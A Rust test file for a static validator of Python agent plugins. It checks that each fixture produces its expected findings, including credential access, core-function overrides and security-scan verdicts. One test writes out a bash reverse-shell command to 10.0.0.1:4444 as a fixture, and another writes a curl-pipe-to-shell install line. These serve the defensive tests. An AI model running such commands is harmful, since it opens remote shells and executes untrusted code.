//! The Python source checks (VAL-10/11/12/14/15/16/20) on their fixtures: each reports exactly
//! its defect, statically, without running plugin code.

use crate::common;

use common::*;
use serde_json::Value;

const E: &str = "error";
const W: &str = "warning";
const I: &str = "info";

type Findings = &'static [(&'static str, &'static str)];

const PYTHON: &[(&str, Findings)] = &[
    ("builtin-override-with-capability", &[]),
    (
        "builtin-override-without-capability",
        &[("builtin-collisions", W)],
    ),
    (
        "builtin-tool-without-override",
        &[("builtin-collisions", W)],
    ),
    ("core-override-assignment", &[("no-core-override", E)]),
    ("core-override-variants", &[("no-core-override", E); 5]),
    (
        "credential-access",
        &[("credential-access", E), ("credential-access", E)],
    ),
    ("declared-tool-not-registered", &[("declared-tools", W)]),
    (
        "dynamic-tool-name",
        &[("declared-tools", I), ("declared-tools", W)],
    ),
    ("hook-callback-without-kwargs", &[("hook-names", W)]),
    (
        "hook-unknown-names",
        &[("hook-names", W), ("hook-names", W)],
    ),
    ("import-writes-file", &[]),
    ("no-register-function", &[("loadable", E)]),
    ("probe-hang", &[]),
    ("probe-network", &[]),
    ("probe-os-exit", &[("declared-tools", W)]),
    ("registration-class-based", &[]),
    ("registration-patterns", &[]),
    (
        "registration-runtime-registry",
        &[
            ("declared-tools", I),
            ("declared-tools", I),
            ("declared-tools", W),
        ],
    ),
    ("security-curl-pipe-sh", &[("security-scan", E)]),
    (
        "security-decode-and-exec",
        &[("declared-tools", W), ("security-scan", E)],
    ),
    (
        "security-dynamic-eval",
        &[("declared-tools", W), ("security-scan", E)],
    ),
    ("security-native-binary", &[("security-scan", E)]),
    ("security-restricted-eval", &[("security-scan", W)]),
    ("security-reverse-shell", &[("security-scan", E); 3]),
    ("self-updater-js", &[("self-updater", E)]),
    ("undeclared-tool", &[("declared-tools", E)]),
];

fn sorted(list: &[(&str, &str)]) -> Vec<(String, String)> {
    let mut v: Vec<(String, String)> = list
        .iter()
        .map(|(c, s)| (c.to_string(), s.to_string()))
        .collect();
    v.sort();
    v
}

fn names(list: &Value) -> Vec<&str> {
    list.as_array()
        .unwrap()
        .iter()
        .map(|e| e["name"].as_str().unwrap())
        .collect()
}

#[test]
fn every_python_fixture_reports_exactly_its_defect() {
    let dir = fixture("python");
    let mut on_disk: Vec<String> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    on_disk.sort();
    let listed: Vec<&str> = PYTHON.iter().map(|(n, _)| *n).collect();
    assert_eq!(
        on_disk, listed,
        "every fixture in fixtures/python has an expectation"
    );
    for (name, want) in PYTHON {
        let (exit, report) = validate_json(&[&dir.join(name)], &[]);
        let p = only_package(&report);
        assert_eq!(findings(p), sorted(want), "{name}: {p:#}");
        let fails = want.iter().any(|(_, s)| *s == E);
        assert_eq!(exit, i32::from(fails), "{name} exit code");
    }
}

#[test]
fn registrations_are_found_through_constants_loops_and_helpers() {
    let (_, report) = validate_json(&[&fixture("python/registration-patterns")], &[]);
    let r = &only_package(&report)["registrations"];
    assert_eq!(r["analyzed"], true);
    assert_eq!(
        names(&r["tools"]),
        [
            "calculate",
            "unit_convert",
            "lookup_a",
            "lookup_b",
            "weather_now",
            "weather_week",
            "echo_one",
            "echo_two",
            "build_x"
        ]
    );
    assert_eq!(
        names(&r["hooks"]),
        ["post_tool_call", "on_session_end", "pre_llm_call"]
    );
    assert_eq!(names(&r["middleware"]), ["tool_request"]);
    assert_eq!(r["undetermined"], serde_json::json!([]));
    // Locations: the helper's registration is reported in the helper's file.
    let weather = &r["tools"][4];
    assert_eq!(
        weather["file"].as_str().unwrap().rsplit('/').next(),
        Some("helpers.py")
    );
    assert_eq!(weather["line"], 10);
    assert_eq!(r["tools"][0]["override"], false);
    let hook = &r["hooks"][0];
    assert_eq!(hook["callback"]["name"], "_on_event");
    assert_eq!(hook["callback"]["accepts_kwargs"], true);
}

#[test]
fn undetermined_names_are_reported_not_guessed() {
    let (_, report) = validate_json(&[&fixture("python/dynamic-tool-name")], &[]);
    let p = only_package(&report);
    let r = &p["registrations"];
    assert_eq!(r["tools"], serde_json::json!([]), "nothing is guessed");
    let u = &r["undetermined"][0];
    assert_eq!(u["kind"], "tool");
    assert_eq!(u["line"], 10);
    assert_eq!(u["expression"], "name=name");
}

#[test]
fn runtime_registries_are_undetermined_not_empty() {
    // `_TOOLS` is a literal `[]` filled by a decorator at import: iterating the literal would
    // silently find nothing. It is reported as undetermined instead; the alias is followed.
    let (_, report) = validate_json(&[&fixture("python/registration-runtime-registry")], &[]);
    let r = &only_package(&report)["registrations"];
    assert_eq!(names(&r["tools"]), ["alias_tool"]);
    assert_eq!(r["undetermined"][0]["expression"], "name=fn.__name__");
}

#[test]
fn core_override_findings_name_target_file_and_line() {
    let (_, report) = validate_json(&[&fixture("python/core-override-assignment")], &[]);
    let f = &only_package(&report)["findings"][0];
    assert!(
        f["message"]
            .as_str()
            .unwrap()
            .ends_with("run_agent.AIAgent.run_conversation (__init__.py:6)"),
        "{f:#}"
    );
    let (_, report) = validate_json(&[&fixture("python/core-override-variants")], &[]);
    let targets: Vec<&str> = only_package(&report)["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["value"].as_str().unwrap())
        .collect();
    assert_eq!(
        targets,
        [
            "hermes_cli.config.load_config",
            "providers._PROVIDER_MODELS[\"mine\"]",
            "sys.modules[\"hermes_cli.plugins\"]",
            "run_agent.AIAgent.chat",
            "tools.registry.dispatch",
        ]
    );
}

#[test]
fn security_verdicts() {
    for (name, verdict) in [
        ("registration-patterns", "safe"),
        ("security-restricted-eval", "caution"),
        ("security-dynamic-eval", "dangerous"),
        ("security-reverse-shell", "dangerous"),
        ("security-native-binary", "dangerous"),
    ] {
        let (_, report) = validate_json(&[&fixture(&format!("python/{name}"))], &[]);
        assert_eq!(
            only_package(&report)["security"]["verdict"],
            verdict,
            "{name}"
        );
    }
}

#[test]
fn oversized_trees_are_a_caution() {
    let dir = tempfile::tempdir().unwrap();
    let pkg = dir.path().join("big");
    std::fs::create_dir_all(pkg.join("data")).unwrap();
    std::fs::write(
        pkg.join("plugin.yaml"),
        "name: big\nversion: 1.0.0\ndescription: d\n",
    )
    .unwrap();
    std::fs::write(pkg.join("__init__.py"), "def register(ctx):\n    pass\n").unwrap();
    for i in 0..401 {
        std::fs::write(pkg.join(format!("data/{i}.txt")), "x").unwrap();
    }
    let (exit, report) = validate_json(&[&pkg], &[]);
    let p = only_package(&report);
    assert_eq!(exit, 0, "medium findings are warnings");
    assert_eq!(p["security"]["verdict"], "caution");
    assert!(
        p["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["message"].as_str().unwrap().contains("403 files")),
        "{p:#}"
    );
}

/// Only the Python that can run is analysed (`static_py::reach`), in the shapes real
/// plugins have (hermes-lcm's maintainer scripts load the package by hand through
/// `sys.modules`): a script nothing names is not an override of a running Hermes, while the
/// same write in a module `__init__.py` loads by a literal `import_module`, or in the
/// dashboard's API module, is; a payload in a script nothing names is still found, by the
/// byte-level patterns, with the analysis's precision; `-v` says how much was parsed.
#[test]
fn only_python_that_can_run_is_analysed() {
    let dir = tempfile::tempdir().unwrap();
    let pkg = dir.path().join("reach");
    let write = |rel: &str, body: &str| {
        let path = pkg.join(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, body).unwrap();
    };
    write(
        "plugin.yaml",
        "name: reach\nversion: 1.0.0\ndescription: d\n",
    );
    write(
        "__init__.py",
        "import importlib\n\n\ndef register(ctx):\n    importlib.import_module('helpers')\n",
    );
    let rebinding = "import sys\nsys.modules['agent'] = None\n";
    write("helpers.py", rebinding);
    write("dashboard/plugin_api.py", rebinding);
    write("scripts/backfill.py", rebinding);
    write("tests/test_reach.py", rebinding);
    write(
        "scripts/setup_hint.py",
        "print('install uv: curl -LsSf https://astral.sh/uv/install.sh | sh')\n",
    );
    write(
        "scripts/evil.py",
        "import os\nos.system('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')\n",
    );
    let (exit, report) = validate_json(&[&pkg], &[]);
    let p = only_package(&report);
    assert_eq!(exit, 1, "{p:#}");
    let mut found: Vec<(String, String)> = p["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            let file = f["file"].as_str().unwrap();
            let rel = file.rsplit_once("reach/").map_or(file, |(_, r)| r);
            (f["check"].as_str().unwrap().to_string(), rel.to_string())
        })
        .collect();
    found.sort();
    assert_eq!(
        found,
        [
            ("no-core-override", "dashboard/plugin_api.py"),
            ("no-core-override", "helpers.py"),
            ("security-scan", "scripts/evil.py"),
        ]
        .map(|(c, f)| (c.to_string(), f.to_string())),
        "{p:#}"
    );
    assert_eq!(p["security"]["verdict"], "dangerous");
    let out = run(&[
        "-v",
        "validate",
        "--no-cache",
        "--format",
        "json",
        &pkg.display().to_string(),
    ]);
    assert!(
        out.stderr.contains("5 of 7 Python files parsed"),
        "{}",
        out.stderr
    );
}

#[test]
fn validate_without_probe_never_runs_plugin_code() {
    let dir = tempfile::tempdir().unwrap();
    let pkg = dir.path().join("import-writes-file");
    std::fs::create_dir_all(&pkg).unwrap();
    for f in ["plugin.yaml", "__init__.py"] {
        std::fs::copy(fixture("python/import-writes-file").join(f), pkg.join(f)).unwrap();
    }
    let marker = pkg.join("imported.marker");
    let (exit, _) = validate_json(&[&pkg], &["--strict"]);
    assert_eq!(exit, 0);
    assert!(!marker.exists(), "static validation imported the plugin");
    // The same plugin under --probe is imported: the check above can fail.
    let (_, report) = validate_json(&[&pkg], &["--probe"]);
    assert!(marker.exists(), "--probe imports the plugin: {report:#}");
}
